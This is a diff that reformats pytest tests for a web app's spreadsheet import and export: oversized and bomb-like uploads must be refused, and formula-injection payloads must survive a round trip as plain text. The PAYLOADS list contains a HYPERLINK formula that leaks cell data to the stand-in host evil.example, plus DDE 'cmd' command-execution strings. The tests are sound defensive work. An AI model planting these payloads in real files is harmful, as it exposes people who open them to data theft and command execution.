@@ -39,12 +39,17 @@ def parser_calls(monkeypatch) -> list[str]:
     return calls
 
 
-@pytest.mark.parametrize(("name", "build", "words"), [
-    ("bomb.xlsx", lambda: xlsx_bomb(300, header=HEADER), "more than the 50 MB allowed"),
-    ("long.csv", lambda: csv_rows(MAX_ROWS, ",".join(HEADER)), "more than 20,000 rows"),
-    ("big.csv", lambda: b"item_code,level\n" + b"," * MAX_UPLOAD_BYTES, "larger than 10 MB"),
-])
-def test_hostile_tables_are_refused_before_parsing_on_page_and_api(cast, client_for, item, parser_calls, name, build, words):
+@pytest.mark.parametrize(
+    ("name", "build", "words"),
+    [
+        ("bomb.xlsx", lambda: xlsx_bomb(300, header=HEADER), "more than the 50 MB allowed"),
+        ("long.csv", lambda: csv_rows(MAX_ROWS, ",".join(HEADER)), "more than 20,000 rows"),
+        ("big.csv", lambda: b"item_code,level\n" + b"," * MAX_UPLOAD_BYTES, "larger than 10 MB"),
+    ],
+)
+def test_hostile_tables_are_refused_before_parsing_on_page_and_api(
+    cast, client_for, item, parser_calls, name, build, words
+):
     data = build()
     before = (Benchmark.objects.count(), AuditEvent.objects.count())
     client = client_for(cast.admin)
@@ -56,8 +61,12 @@ def test_hostile_tables_are_refused_before_parsing_on_page_and_api(cast, client_
     assert (Benchmark.objects.count(), AuditEvent.objects.count()) == before
 
 
-PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "-2+3+cmd|' /C calc'!A0"]
+PAYLOADS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+]
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -73,13 +82,17 @@ def test_formulas_in_a_benchmark_come_back_as_text_and_round_trip(cast, client_f
             assert "'" + payload in cells, payload
         assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
     else:
-        cells = [cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row]
+        cells = [
+            cell for row in load_workbook(io.BytesIO(response.content)).active.iter_rows() for cell in row
+        ]
         for payload in [*PAYLOADS, "=1+1", "@cmd"]:
             assert [c.data_type for c in cells if c.value == payload] == ["s"], payload
         assert not [c for c in cells if c.data_type == "f"]
     rows = read_table(response.content, f"t.{fmt}")
     assert [values["conditions_text"] for _n, values in rows][:4] == PAYLOADS
     assert (rows[4][1]["measures"], rows[4][1]["legal_basis"]) == ("=1+1", "@cmd")
-    again = client_for(cast.admin).post(reverse("api-discretion-import"),
-                                        {"file": SimpleUploadedFile(f"t.{fmt}", response.content), "dry_run": "true"})
+    again = client_for(cast.admin).post(
+        reverse("api-discretion-import"),
+        {"file": SimpleUploadedFile(f"t.{fmt}", response.content), "dry_run": "true"},
+    )
     assert again.status_code == 200 and again.json()["ok"], again.content[:500]
